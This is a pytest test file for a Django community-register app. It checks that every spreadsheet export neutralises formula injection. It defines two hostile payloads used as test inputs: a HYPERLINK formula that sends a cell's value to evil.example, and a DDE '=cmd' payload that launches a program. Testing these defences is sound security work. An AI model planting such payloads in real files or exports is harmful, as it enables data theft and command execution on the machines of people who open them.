"""Formula injection (CWE-1236), issue 18 item 6: text that a spreadsheet would run —
``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0`` — typed into a register import, a donor's name
or a ledger note, or a community's name, leaves Linli in every export as text: a text
cell in xlsx, apostrophe-prefixed in csv and HXL. Every file is fetched through its real
export route and read back."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.common.test_exports import ledger, rejected_import
from tests.common.test_scope_all_routes import roster_shift
from tests.conftest import Neighbourhood

pytestmark = pytest.mark.django_db
LINK = '=HYPERLINK("http://evil.example/?id="&C2,"详情")'
CMD = "=cmd|' /C calc'!A0"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def client(make_user, inside):
    client = Client()
    client.force_login(make_user("community_secretary"))
    return client


def imported_resident(n: Neighbourhood) -> dict:
    """A register csv whose name cell is a formula, imported through the import service,
    then the civil-affairs roll that lists the person."""
    from linli.domain import idcard
    from linli.register.importing import do_import_residents, read_register_file
    from linli.register.models import Resident, Vulnerability

    number = idcard.make("510107", dt.date(1951, 4, 2), 9, idcard.MALE)
    rows = [["姓名", "身份证号", "联系电话", "备注"], [LINK, number, "13911112222", CMD]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    parsed = read_register_file(out.getvalue().encode(), "台账.csv")
    summary = do_import_residents(
        actor=None, place=n.grid, parsed=parsed, source="民政", file_name="台账.csv", commit=True
    )
    assert summary.committed and summary.new == 1
    resident = Resident.objects.get(id_number=number)
    assert resident.name == LINK  # kept as the text it is …
    Vulnerability.objects.create(resident=resident, category="subsistence", source="civil_affairs")
    return {"key": "civil_affairs", "code": n.community.code, "day": "2026-03-02"}


def hostile_ledger(n: Neighbourhood):
    from linli.supplies.models import Item
    from linli.supplies.services import do_receive_stock

    location = ledger(n)
    item = Item.objects.get(code="mask")
    do_receive_stock(actor=None, item=item, location=location, quantity=5, source=LINK, note=CMD)
    return location


def hostile_roster(n: Neighbourhood):
    n.community.name = CMD  # the roster's title starts with the community's name
    n.community.save(update_fields=["name"])
    n.volunteer.name = LINK
    n.volunteer.save(update_fields=["name"])
    return roster_shift(n).roster


def hostile_rejected(n: Neighbourhood):

    run = rejected_import(n)
    out = io.StringIO()
    csv.writer(out).writerows([["姓名", "身份证号", "联系电话"], [LINK, "51010719400305001", CMD]])
    run.content = out.getvalue().encode()
    run.save(update_fields=["content"])
    return run


def xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def post(client, route, kwargs) -> bytes:
    response = client.post(reverse(route, kwargs=kwargs), {"reason": "核对"})
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    return response.content


XLSX_EXPORTS = {
    "form": ("reports:download", lambda n: {**imported_resident(n), "fmt": "xlsx"}),
    "ledger": ("supplies:export", lambda n: {"pk": hostile_ledger(n).pk}),
    "roster": ("rostering:export", lambda n: {"pk": hostile_roster(n).pk}),
    "rejected": ("register:import_rejected", lambda n: {"pk": hostile_rejected(n).pk}),
}


@pytest.mark.parametrize("key", XLSX_EXPORTS)
def test_an_xlsx_export_writes_formula_text_as_text_cells(key, client, inside):
    route, kwargs = XLSX_EXPORTS[key]
    cells = xlsx_cells(post(client, route, kwargs(inside)))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # nothing is evaluated
    texts = " ".join(str(c.value) for c in cells)
    assert LINK in texts or CMD in texts  # the hostile text is there, as typed


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_a_csv_or_hxl_form_prefixes_formula_text_with_an_apostrophe(fmt, client, inside):
    content = post(client, "reports:download", {**imported_resident(inside), "fmt": fmt})
    values = [v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in row]
    assert not [v for v in values if v.startswith(STARTS)]
    assert "'" + LINK in values


def test_an_imported_formula_cell_gives_its_value_never_its_formula():
    """An xlsx formula cell is read as the value it shows (none here: openpyxl stores no
    result), so the formula itself never reaches the register."""
    from openpyxl import Workbook

    from linli.domain.cells import xlsx_row
    from linli.domain.sheets import read_table

    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "备注"])
    sheet.append([LINK, "=1+1"])  # formula cells
    sheet.append(xlsx_row(sheet, ["张三", CMD]))  # a text cell that only looks like one
    out = io.BytesIO()
    book.save(out)
    rows = list(read_table(out.getvalue(), "台账.xlsx").rows)
    assert rows[1] == ["", ""] and rows[2] == ["张三", CMD]
